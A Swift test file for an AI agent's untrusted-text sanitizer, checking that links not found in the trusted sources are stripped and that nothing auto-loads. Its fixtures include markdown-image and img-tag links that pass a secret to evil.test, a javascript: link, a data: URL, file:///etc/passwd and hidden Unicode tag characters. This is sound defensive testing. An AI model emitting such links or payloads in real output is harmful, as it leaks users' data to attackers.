import Testing

@testable import Agent

struct UntrustedTextTests {
    private let text = UntrustedText(sources: [
        "See https://example.org/a?b=c for more.", "What is at http://mine.test?",
    ])

    @Test(
        "links stay where they were given, and nothing loads by itself",
        arguments: [
            ("It is at https://example.org/a?b=c.", "It is at https://example.org/a?b=c."),
            ("[more](https://example.org/a?b=c)", "[more](https://example.org/a?b=c)"),
            ("Yours is http://mine.test, I think.", "Yours is http://mine.test, I think."),
            ("![x](https://example.org/a?b=c)", "[x](https://example.org/a?b=c)"),
            ("![x](https://evil.test/?d=secret) done", "x done"),
            ("[click](https://example.org/a?b=secret)", "click"),
            ("Open https://example.org/a?b=cd now", "Open (link left out) now"),
            ("Open www.evil.test/x now", "Open (link left out) now"),
            ("[run](javascript:alert(1)) it", "run) it"), ("data:text/html;base64,AAAA", "(link left out)"),
            ("a <img src=\"https://evil.test/p\"> b", "a  b"), ("a <IMG SRC=x", "a "),
            ("Read file:///etc/passwd", "Read (link left out)"), ("3 < 4 and [1] says 5", "3 < 4 and [1] says 5"),
            ("plain\u{e0041}\u{e0042} \u{202e}text\u{2069}", "plain text"),
        ])
    func links(given: String, safe: String) {
        #expect(text.safe(given) == safe)
    }

    @Test("the same comes of a text in pieces, and nothing is held for ever")
    func pieces() {
        let whole =
            "Look ![x](https://evil.test/?d=a b) at [more](https://example.org/a?b=c) and https://evil.test/q <img src=x> end."
        for size in 1...7 {
            var stream = UntrustedStream(text)
            var said = ""
            var rest = Substring(whole)
            while !rest.isEmpty {
                said += stream.add(String(rest.prefix(size)))
                rest = rest.dropFirst(size)
            }
            #expect(said + stream.finish() == text.safe(whole), "\(size)")
        }
        var stream = UntrustedStream(text)
        let long = "[" + String(repeating: "word ", count: 200)
        #expect(stream.add(long).count > 400)
    }
}
